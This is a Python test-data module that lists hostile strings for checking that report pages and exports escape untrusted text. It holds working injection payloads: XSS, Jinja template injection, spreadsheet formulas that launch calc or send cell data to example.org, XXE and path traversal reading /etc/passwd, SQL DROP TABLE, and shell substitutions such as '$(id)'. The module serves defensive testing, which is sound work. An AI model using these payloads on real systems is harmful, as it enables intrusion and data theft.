"""Texts that people, or programs in their name, might write into a report to run, break or forge something.

One corpus for every page and export. Each text is a name, a description, a label or an id somewhere; it must
come out as the same text (:func:`patrol.text.clean`) and do nothing. Whatever would run a script sets ``pwned``.
"""

RUN = "window.pwned=1"
OUTSIDE = "//example.org/x"

# What template engines run: folium and branca render twice through Jinja
TEMPLATES = (
    "{{ cycler.__init__.__globals__.os.getcwd() }}", "{{ 7 * 7 }}", "{% for x in y %}", "{# comment",
    "{% endraw %}{{ 1 }}", "{%- raw -%}", "{{ self._TemplateReference__context }}", "#{7*7}", "<%= 7*7 %>", "{{", "%}",
    "{$7*7}", "[[${7*7}]]", "%s%n{0}{name}", "{0.__class__.__mro__}",
)  # fmt: skip

# What a browser runs, in content, in attributes, in scripts and styles
MARKUP = (
    f"<script>{RUN}</script>", f"</script><script>{RUN}</script>", f'"><img src=x onerror="{RUN}">',
    f"<svg/onload={RUN}>", f"</title></style><script>{RUN}</script>", f"<!-- --><script>{RUN}//", "-->",
    "<!--", f"]]>'\"><iframe srcdoc='<script>parent.{RUN}</script>'>", f'<a href="javascript:{RUN}">x</a>',
    f"javascript:{RUN}", f"JaVaScRiPt&colon;{RUN}", f"data:text/html,<script>{RUN}</script>", "</textarea>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>", "<![CDATA[<b>]]>",
    f"' onmouseover='{RUN}", f'" autofocus onfocus="{RUN}', f"<body onpageshow={RUN}>",
    f"<details open ontoggle={RUN}>", f"<object data='javascript:{RUN}'>", "<base href='https://example.org/'>",
    f"<link rel=stylesheet href={OUTSIDE}.css>", f"<img src={OUTSIDE}.png>", "<meta http-equiv=refresh content=0>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", "&#60;b&#62;&amp;amp;", f"\\u003cscript>{RUN}\\u003c/script>",
    f"＜script＞{RUN}＜/script＞", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
)  # fmt: skip
SCRIPTS = (
    f"'-({RUN})-'", f"`${{{RUN}}}`", f"${{{RUN}}}", f"*/;{RUN};/*", f"\\');{RUN}//", f"\\\";{RUN}//", "\\", '"', "'",
    "`", "__proto__", "constructor", "toString", "hasOwnProperty", "expression(alert(1))", f"}}</style><b>{RUN}",
    f"url({OUTSIDE})", "@import '//example.org/x.css';",
)  # fmt: skip

# What a spreadsheet computes or calls
FORMULAS = (
    "=cmd|'/c calc'!A1", "+1+cmd|'/c calc'!A1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1",
    '=HYPERLINK("http://example.org/?"&A1,"x")', "=IMPORTXML(\"http://example.org/\",\"//a\")", "'=1+1",
    "=1;2\t3,4",
)  # fmt: skip

# What XML, SQL, file names and shells take for something else
OTHER = (
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
    "&x;", "</name></Placemark>", "'; DROP TABLE hazards; --", "1' OR '1'='1", "../../etc/passwd", "C:\\con\\nul",
    "$(touch x)", "a;b|c&d>e", "NaN", "null", "1e309", "true", "TRUE",
)  # fmt: skip

# What is no plain text: controls, directions, half characters, very long ones
CHARACTERS = (
    "nul\x00byte\x1fand\x07bell", "\x1b[31mred", "\u202erotide\u202c \u2066x\u2069",
    "line\r\nbreak\ttab\u2028para\u2029", "\ud800 lone", "😀 emoji 👨‍👩‍👧 家", "‹日本語›\u3000全角",
    "z\u0301\u0302\u0303\u0304algo", "\ufeffbom", "zero\u200bwidth", "\ufffe\uffff", "a" * 5000, "字" * 5000,
    "", " ", "𠮷野家", "مرحبا",
)  # fmt: skip

# What papers, handhelds and spreadsheets may take for their own: placeholders, XML, formulas, controls
PAPERS = (
    '${7*7}', '`${alert(1)}`', '$(id)', '$[name]', '$[description]', '"autofocus onfocus=window.pwned=1 x="',
    '<!-- --><b>', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;b&#62;', '\\u003cscript>',
    "<iframe srcdoc='window.pwned=1'>", '<style>@import url(//example.org)</style>', '</svg><script>1</script>',
    '<b', '<', ']]>', '<![CDATA[x]]>', ']]><evil/>', "<?xml version='1.0'?>", '<?php echo 1 ?>', '&xxe;', '&amp;&',
    '<!DOCTYPE a>', "<!ENTITY x SYSTEM 'file:///etc/passwd'>", '</name><desc>x</desc>', '</coordinates>',
    '</Placemark></kml>', '=1+1', "=cmd|'/C calc'!A0", '=HYPERLINK("http://example.org","x")', '+1', '-1+1',
    '@SUM(A1)', '\uff0d1', '\uff20A1', '\ufeff=1+1', '#REF!', '#N/A', "'=1", '\x0b\x0c', '\u202erotide\u202c',
    '\u2066x\u2069', 'line\r\nbreak\ttab\u2028para', 'lone \udfff', '\U0001ffff', '\u200b\ufeff', '\x7f\x80\x9f',
    "''; DROP TABLE plan;--", '../../x', '%00', '́́́',
)  # fmt: skip

HOSTILE: tuple[str, ...] = (*TEMPLATES, *MARKUP, *SCRIPTS, *FORMULAS, *OTHER, *CHARACTERS, *PAPERS)
assert len(set(HOSTILE)) == len(HOSTILE) >= 60
